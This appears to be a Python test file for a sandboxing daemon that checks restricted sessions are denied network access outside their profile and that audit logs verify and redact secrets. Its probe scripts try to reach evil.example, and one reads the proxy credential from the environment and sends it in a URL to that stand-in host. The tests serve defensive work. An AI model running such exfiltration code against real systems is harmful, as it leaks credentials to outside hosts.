"""Through the daemon: a network-restricted session is refused what its profile does not
allow, and leaves a sealed audit file that verifies and records those decisions."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

from nonod.audit import verify_session_file

from .conftest import DaemonThread
from .test_cli import CLI, cli_env

PROBE = r"""
import base64, os, socket
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTPS_PROXY"])
auth = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
s = socket.create_connection((proxy.hostname, proxy.port), timeout=5)
s.sendall(f"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n"
          f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
print("proxy answered", s.recv(12).decode().split(" ")[1])
try:
    socket.create_connection(("1.1.1.1", 443), timeout=3)
    print("direct connected")
except OSError as e:
    print("direct refused", e.errno)
raise SystemExit(3)
"""


def launch_probe(run: CLI, base: Path) -> subprocess.CompletedProcess[str]:
    """PROBE in a session whose profile allows only api.github.com: its CONNECT to
    evil.example is denied (403), its direct connection refused; it exits 3."""
    (base / "probe.py").write_text(PROBE)
    profile = base / "p.json"
    profile.write_text(json.dumps({
        "meta": {"name": "audited"},
        "workdir": {"access": "readwrite"},
        "groups": {"include": ["python_runtime"]},
        "network": {"allow_domain": ["api.github.com"]},
    }))
    return run("launch", "--profile", str(profile), "--allow-cwd", "--",
               "/usr/bin/python3", "-S", "probe.py")


def test_restricted_session_through_the_daemon_is_audited(
        daemon_thread: DaemonThread, short_tmp: Path) -> None:
    run = CLI(cli_env(daemon_thread.socket, short_tmp), short_tmp)
    done = launch_probe(run, short_tmp)
    assert done.returncode == 3, done.stderr
    assert "proxy answered 403" in done.stdout
    assert "direct refused 101" in done.stdout
    files = list(daemon_thread.state_dir.rglob("audit.ndjson"))
    assert files, sorted(str(p) for p in daemon_thread.state_dir.rglob("*"))
    assert len(files) == 1
    result = verify_session_file(files[0])
    kinds = [json.loads(line)["event"]["type"] for line in files[0].read_text().splitlines()]
    assert kinds[0] == "session_started"
    assert "enforcement" in kinds
    network = [json.loads(line)["event"] for line in files[0].read_text().splitlines()
               if json.loads(line)["event"]["type"] == "network"]
    assert any(e["host"] == "evil.example" and e["decision"] == "deny" for e in network)
    ended = [json.loads(line)["event"] for line in files[0].read_text().splitlines()
             if json.loads(line)["event"]["type"] == "session_ended"]
    assert ended and ended[0]["exit_code"] == 3
    assert result is not None


LEAKY = r"""
import base64, os, socket, sys
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTPS_PROXY"])
token = proxy.password
auth = base64.b64encode(f"{proxy.username}:{token}".encode()).decode()
s = socket.create_connection((proxy.hostname, proxy.port), timeout=5)
s.sendall(f"GET http://evil.example/leak/{token} HTTP/1.1\r\nHost: evil.example\r\n"
          f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
print("proxy answered", s.recv(12).decode().split(" ")[1], flush=True)
try:
    open(f"{sys.argv[1]}/{token}")
except OSError as e:
    print("open refused", e.errno, flush=True)
print(token)
"""


def test_what_the_program_holds_never_reaches_its_audit_record(
        daemon_thread: DaemonThread, short_tmp: Path) -> None:
    """The program writes its phantom token into a URL it asks the proxy for and into a path
    it is refused: the audit record shows ``[phantom]`` in both places, never the token, and
    nothing the daemon wrote holds it."""
    run = CLI(cli_env(daemon_thread.socket, short_tmp), short_tmp)
    (short_tmp / "leaky.py").write_text(LEAKY)
    secret_dir = short_tmp / "secret"
    secret_dir.mkdir()
    profile = short_tmp / "p.json"
    profile.write_text(json.dumps({
        "meta": {"name": "leaky"},
        "workdir": {"access": "readwrite"},
        "groups": {"include": ["python_runtime"]},
        "filesystem": {"deny": [str(secret_dir)]},
        "network": {"allow_domain": ["api.github.com"]},
    }))
    done = run("launch", "--profile", str(profile), "--allow-cwd", "--",
               "/usr/bin/python3", "-S", "leaky.py", str(secret_dir))
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == "proxy answered 403" and lines[1] == "open refused 13"
    token = lines[2]
    assert len(token) == 64
    [audit] = list(daemon_thread.state_dir.rglob("audit.ndjson"))
    text = audit.read_text()
    assert token not in text
    events = [json.loads(line)["event"] for line in text.splitlines()]
    assert any(e["type"] == "network" and e["host"] == "evil.example"
               and e.get("path") == "/leak/[phantom]"
               for e in events), [e for e in events if e["type"] == "network"]
    denied = [e for e in events if e["type"] == "fs_denied"]
    if denied:  # observed with a root daemon (kernel audit): masked as well
        assert any(e["path"] == f"{secret_dir}/[phantom]" for e in denied), denied
    verify_session_file(audit)
    for written in daemon_thread.state_dir.rglob("*"):
        if written.is_file():
            assert token.encode() not in written.read_bytes(), written
